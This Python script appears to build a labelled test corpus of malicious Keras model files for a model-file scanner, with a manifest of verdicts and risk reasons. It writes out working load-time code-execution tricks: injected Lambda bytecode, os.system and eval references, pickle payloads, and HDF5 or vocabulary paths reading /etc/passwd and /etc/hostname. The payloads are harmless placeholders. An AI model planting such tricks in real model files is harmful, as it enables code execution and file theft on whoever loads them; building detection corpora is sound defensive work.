# /// script
# requires-python = "==3.11.*"
# dependencies = ["keras==3.15.1", "h5py==3.16.0", "torch==2.13.0"]
# ///
"""Keras models that do more than compute when they are loaded: the known tricks, each in a file of its own.

A real model is saved and its configuration or its weights are changed. The payloads are harmless: each would make an
empty file `trace` in the current folder.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import sys
import zipfile
from pathlib import Path
from typing import Any

os.environ["KERAS_BACKEND"] = "torch"

import h5py
import keras
from keras import layers
from keras.src.legacy.saving.legacy_h5_format import save_model_to_hdf5

OUT = Path(sys.argv[1])
MANIFEST: list[dict[str, Any]] = []
PAYLOAD = "open('trace', 'w')"

keras.utils.set_random_seed(0)
MODEL = keras.Sequential([keras.Input((4,), name="given"), layers.Dense(2, name="dense")], name="host")
BUFFER = OUT / "host.keras"
MODEL.save(BUFFER)
with zipfile.ZipFile(BUFFER) as archive:
    MEMBERS = {name: archive.read(name) for name in archive.namelist()}
BUFFER.unlink()
CODE = base64.b64encode(marshal.dumps(compile(f"lambda x: ({PAYLOAD}, x)[1]", "payload", "eval").co_consts[0])).decode()
LAMBDA = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}


class Payload:
    """A pickle that opens a file."""

    def __reduce__(self) -> tuple[Any, ...]:
        return open, ("trace", "w")


def function(module: str, name: str) -> dict[str, Any]:
    """A function by its names."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def layer(kind: str, package: str | None = "keras.layers", **config: Any) -> dict[str, Any]:
    """A layer by its names."""
    config = {"name": "trick", "trainable": True, "dtype": "float32"} | config
    return {"module": package, "class_name": kind, "config": config, "registered_name": None}


def told(path: str, form: str, risk: str, *reasons: str, verdict: str = "valid") -> None:
    """A line of the manifest."""
    by = f"keras {keras.__version__}, h5py {h5py.__version__}, and a change by hand"
    row = {"path": path, "made_by": by, "format": form, "verdict": verdict, "risk": risk, "reasons": reasons}
    MANIFEST.append(row)


def archived(name: str, changes: dict[str, bytes]) -> None:
    """The model's archive with other members."""
    with zipfile.ZipFile(OUT / name, "w") as archive:
        for member, content in {**MEMBERS, **changes}.items():
            archive.writestr(zipfile.ZipInfo(member), content, zipfile.ZIP_DEFLATED)


def with_layer(name: str, trick: dict[str, Any], risk: str, *reasons: str) -> None:
    """The model with one more layer."""
    config = json.loads(MEMBERS["config.json"])
    config["config"]["layers"].append(trick)
    archived(f"{name}.keras", {"config.json": json.dumps(config).encode()})
    told(f"{name}.keras", "keras-v3", risk, *reasons)


def with_weights(name: str, change: Any, risk: str, *reasons: str, verdict: str = "valid") -> None:
    """The model with changed weights."""
    content = io.BytesIO(MEMBERS["model.weights.h5"])
    with h5py.File(content, "r+") as file:
        del file["layers/dense/vars/0"]
        change(file["layers/dense/vars"])
    archived(f"{name}.keras", {"model.weights.h5": content.getvalue()})
    told(f"{name}.keras", "keras-v3", risk, *reasons, verdict=verdict)


BAD, ODD, LAYER = "dangerous", "suspicious", "keras.dangerous-module"
torch_pickle = base64.b64encode(pickle.dumps(Payload(), protocol=2)).decode()
get_file = {"fname": "trace", "origin": "file:///etc/hostname"}
TRICKS: dict[str, tuple[dict[str, Any], str, str]] = {
    "lambda": (layer("Lambda", function=LAMBDA), BAD, "keras.lambda"),
    "lambda_shape": (layer("Lambda", function="relu", output_shape=LAMBDA), BAD, "keras.lambda"),
    "lambda_activation": (layer("Dense", units=2, activation=LAMBDA), BAD, "keras.lambda"),
    "lambda_nested": (
        {
            "module": "keras.models",
            "class_name": "Sequential",
            "config": {"name": "inner", "layers": [layer("TimeDistributed", layer=layer("Lambda", function=LAMBDA))]},
            "registered_name": None,
        },
        BAD,
        "keras.lambda",
    ),
    "module_os": (layer("Lambda", function=function("os", "system"), arguments={"command": "touch trace"}), BAD, LAYER),
    "module_class": (layer("Popen", "subprocess", args=["touch", "trace"]), BAD, LAYER),
    "module_leaked": (layer("Lambda", function=function("keras.src.utils.file_utils.os", "system")), BAD, LAYER),
    "module_builtins": (layer("Dense", units=2, activation=function("builtins", "eval")), BAD, LAYER),
    "module_typespec": (
        {"class_name": "__typespec__", "spec_name": "system", "module": "os", "registered_name": None, "config": []},
        BAD,
        LAYER,
    ),
    "fn_module": (layer("Lambda", fn_module="os", fn_name="system"), BAD, LAYER),
    "get_file": (layer("Lambda", function=function("keras.utils", "get_file"), arguments=get_file), BAD, LAYER),
    "get_file_inner": (layer("Lambda", function=function("keras.src.utils.file_utils", "get_file")), BAD, LAYER),
    "load_model": (layer("Lambda", function=function("keras.models", "load_model")), BAD, LAYER),
    "unsafe": (
        layer("Lambda", function=function("keras.config", "enable_unsafe_deserialization")),
        BAD,
        LAYER,
    ),
    "unknown_module": (layer("Layer", "someones.package"), ODD, "keras.unknown-module"),
    "unregistered": (layer("Strange", None), ODD, "keras.custom-object"),
    "vocabulary_file": (layer("StringLookup", vocabulary="/etc/passwd"), BAD, "keras.file-access"),
    "vocabulary_address": (layer("TextVectorization", vocabulary="http://127.0.0.1/v"), BAD, "keras.file-access"),
    "saved_model": (layer("TFSMLayer", filepath="/srv/model"), BAD, "keras.file-access"),
    "torch_pickle": (layer("TorchModuleWrapper", module=torch_pickle), BAD, "pickle.code-execution"),
}
for name, (trick, risk, reason) in TRICKS.items():
    with_layer(name, trick, risk, reason)

config = json.loads(MEMBERS["config.json"])
config["compile_config"] = {"optimizer": "adam", "loss": function("os", "system"), "metrics": [LAMBDA]}
archived("compiled.keras", {"config.json": json.dumps(config).encode()})
told("compiled.keras", "keras-v3", BAD, LAYER, "keras.lambda")
archived("config_deep.keras", {"config.json": b'{"class_name": "Model", "config": ' + b"[" * 5_000})
told("config_deep.keras", "keras-v3", "none", verdict="malformed")
archived("asset.keras", {"assets/layers/x.pkl": pickle.dumps(Payload())})
told("asset.keras", "keras-v3", BAD, "pickle.code-execution")
archived("weights_pickle.keras", {"model.weights.h5": pickle.dumps(Payload())})
told("weights_pickle.keras", "keras-v3", BAD, "pickle.code-execution", verdict="malformed")
archived("weights_cut.keras", {"model.weights.h5": MEMBERS["model.weights.h5"][:-600]})
told("weights_cut.keras", "keras-v3", "none", verdict="truncated")


def external(names: h5py.Group) -> None:
    """Data that lies in another file."""
    names.create_dataset("0", (4, 2), "f4", external=[("/etc/hostname", 0, 32)])


def linked(names: h5py.Group) -> None:
    """A link into another file."""
    names["0"] = h5py.ExternalLink("beside.h5", "/x")


def virtual(names: h5py.Group) -> None:
    """Data that is put together from another file."""
    layout = h5py.VirtualLayout((4, 2), "f4")
    layout[:] = h5py.VirtualSource("/etc/other.h5", "x", (4, 2))
    names.create_virtual_dataset("0", layout)


def enormous(names: h5py.Group) -> None:
    """More elements than any file can hold."""
    names.create_dataset("0", (1 << 40, 1 << 10), "f4", chunks=(1, 1 << 10))


def looped(names: h5py.Group) -> None:
    """A group that holds itself."""
    names["0"] = names.parent.parent


with_weights("weights_external", external, BAD, "graph.external-path")
with_weights("weights_linked", linked, BAD, "keras.file-access")
with_weights("weights_virtual", virtual, BAD, "graph.external-path")
with_weights("weights_enormous", enormous, "none", verdict="malformed")
with_weights("weights_looped", looped, "none")

OLD = {
    "lambda": ({"name": "trick", "function": [CODE, None, None], "function_type": "lambda"}, "Lambda", "keras.lambda"),
    "lambda_module": ({"name": "trick", "function": "system", "module": "os"}, "Lambda", LAYER),
    "operation": ({"name": "trick", "function": "io.write_file"}, "TFOpLambda", LAYER),
}
for name, (settings, kind, reason) in OLD.items():
    with h5py.File(OUT / f"old_{name}.h5", "w") as file:
        save_model_to_hdf5(MODEL, file)
        config = json.loads(file.attrs["model_config"])
        config["config"]["layers"].append({"class_name": kind, "config": settings})
        file.attrs["model_config"] = json.dumps(config)
    told(f"old_{name}.h5", "keras-h5", BAD, reason)
content = (OUT / "old_lambda.h5").read_bytes()
(OUT / "old_cut.h5").write_bytes(content[:-600])
told("old_cut.h5", "keras-h5", BAD, "keras.lambda", verdict="truncated")
with h5py.File(OUT / "user_block.h5", "w", userblock_size=512) as file:
    save_model_to_hdf5(MODEL, file)
with (OUT / "user_block.h5").open("r+b") as raw:
    raw.write(pickle.dumps(Payload()))
told("user_block.h5", "keras-h5", BAD, "pickle.code-execution")
(OUT / "manifest.json").write_text(json.dumps(MANIFEST, indent=1) + "\n")
